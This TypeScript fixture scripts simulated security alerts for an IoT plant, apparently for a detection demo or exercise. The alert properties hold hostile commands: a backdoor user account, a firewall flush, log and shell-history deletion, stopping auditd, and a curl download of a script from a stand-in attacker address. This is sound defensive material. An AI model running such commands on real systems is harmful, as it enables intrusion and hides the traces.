import type { alertKinds } from './alertKinds.ts';
import {
  type Device,
  type Hub,
  microSensor,
  mixer,
  plant,
  plant2,
  pump1,
  pump1OnPlant2,
  pump07,
  pump07Upper,
  pump10,
  valve3,
  windowsPanel,
} from './devices.ts';
import { downloadCommand, minerCommand } from './storyCommands.ts';

/** One alert as it is told; the row's text comes from its kind. */
export interface Telling {
  readonly kind: keyof typeof alertKinds;
  /** On which device; a hub alert names none. */
  readonly on: Device | Hub;
  readonly start: string;
  readonly end?: string;
  /** Minutes from the end until the alert is written. */
  readonly delay: number;
  readonly properties?: Readonly<Record<string, string>>;
  /** Later states of the same alert, each written again: [status, minutes after the end]. */
  readonly updates?: readonly (readonly [status: string, minutes: number])[];
}

const source = (address: string, users: string) => ({
  'Full Source Address': JSON.stringify([`${address}:`]),
  'User Names': users,
});
const command = (text: string) => ({ 'Command Line': text, 'User Name': 'root' });

/** What raised alerts, and when. */
export const alertTellings: readonly Telling[] = [
  { kind: 'certificateAdded', on: plant, start: '2019-04-08T09:12:00Z', delay: 25 },
  { kind: 'diagnosticsDeleted', on: plant, start: '2019-04-17T18:03:00Z', delay: 40 },
  { kind: 'certificateAdded', on: plant2, start: '2019-04-09T14:20:00Z', delay: 25 },
  {
    kind: 'localLogin',
    on: pump1,
    start: '2019-04-07T06:58:10Z',
    delay: 35,
    properties: { 'Remote Address': '?', 'User Name': 'pi', 'Login Shell': '/bin/bash' },
  },
  {
    kind: 'expiredToken',
    on: pump10,
    start: '2019-04-12T01:30:00Z',
    delay: 45,
    properties: { 'Host Name': 'pump-10' },
  },
  {
    kind: 'bruteForceFailed',
    on: pump10,
    start: '2019-04-17T20:41:00Z',
    end: '2019-04-17T20:52:00Z',
    delay: 31,
    properties: { ...source('203.0.113.9', '["root","admin","pi"]'), 'Related Device': 'pump-07' },
  },
  {
    kind: 'localLoginFailed',
    on: pump07Upper,
    start: '2019-04-15T05:10:00Z',
    delay: 50,
    properties: { 'Remote Address': '?', 'User Name': 'pi' },
  },
  {
    kind: 'connectionNotAllowed',
    on: mixer,
    start: '2019-04-13T10:00:00Z',
    end: '2019-04-13T11:00:00Z',
    delay: 320,
    properties: { 'Remote Address': '198.51.100.80' },
  },
  {
    kind: 'localLoginFailed',
    on: windowsPanel,
    start: '2019-04-16T12:31:00Z',
    delay: 20,
    properties: { 'User Name': 'PLANT\\Operator' },
    updates: [['Resolved', 600]],
  },
  {
    kind: 'suspiciousAddress',
    on: microSensor,
    start: '2019-04-14T03:00:00Z',
    delay: 130,
    properties: { 'Remote Address': '203.0.113.77' },
  },
  { kind: 'expiredToken', on: valve3, start: '2019-04-18T02:00:00Z', delay: 15 },
  {
    kind: 'localLogin',
    on: pump1OnPlant2,
    start: '2019-04-16T07:00:00Z',
    delay: 35,
    properties: { 'Remote Address': '?', 'User Name': 'maint' },
  },
  {
    kind: 'bruteForceFailed',
    on: pump07,
    start: '2019-04-17T21:14:00Z',
    end: '2019-04-17T21:40:00Z',
    delay: 18,
    properties: source('203.0.113.9', '["(invalid user)","root","pi"]'),
  },
  {
    kind: 'bruteForceSuccess',
    on: pump07,
    start: '2019-04-18T11:52:07Z',
    end: '2019-04-18T12:01:44Z',
    delay: 3,
    properties: source('203.0.113.9', '["pi"]'),
    updates: [
      ['InProgress', 260],
      ['InProgress', 610],
    ],
  },
  {
    kind: 'userAdded',
    on: pump07,
    start: '2019-04-18T12:05:02Z',
    delay: 105,
    properties: command('useradd -m -s /bin/bash sysupd'),
  },
  {
    kind: 'downloadThenRun',
    on: pump07,
    start: '2019-04-18T12:09:10Z',
    delay: 104,
    properties: command(downloadCommand),
  },
  {
    kind: 'miner',
    on: pump07,
    start: '2019-04-18T12:11:03Z',
    delay: 106,
    properties: command(minerCommand),
    updates: [['InProgress', 300]],
  },
  { kind: 'firewallOff', on: pump07, start: '2019-04-18T12:19:40Z', delay: 101, properties: command('iptables -F') },
  {
    kind: 'logsRemoved',
    on: pump07,
    start: '2019-04-18T12:57:50Z',
    delay: 64,
    properties: command('rm -f /var/log/auth.log /var/log/syslog'),
  },
  {
    kind: 'historyCleared',
    on: pump07,
    start: '2019-04-18T12:58:05Z',
    delay: 66,
    properties: command('rm -f /home/pi/.bash_history'),
  },
  {
    kind: 'auditOff',
    on: pump07,
    start: '2019-04-18T12:58:40Z',
    delay: 68,
    properties: command('systemctl stop auditd'),
  },
  {
    kind: 'downloadThenRun',
    on: pump1,
    start: '2019-04-18T12:00:04Z',
    end: '2019-04-18T13:00:04Z',
    delay: 150,
    properties: command('curl -s http://203.0.113.9/x.sh -o /tmp/x'),
  },
];
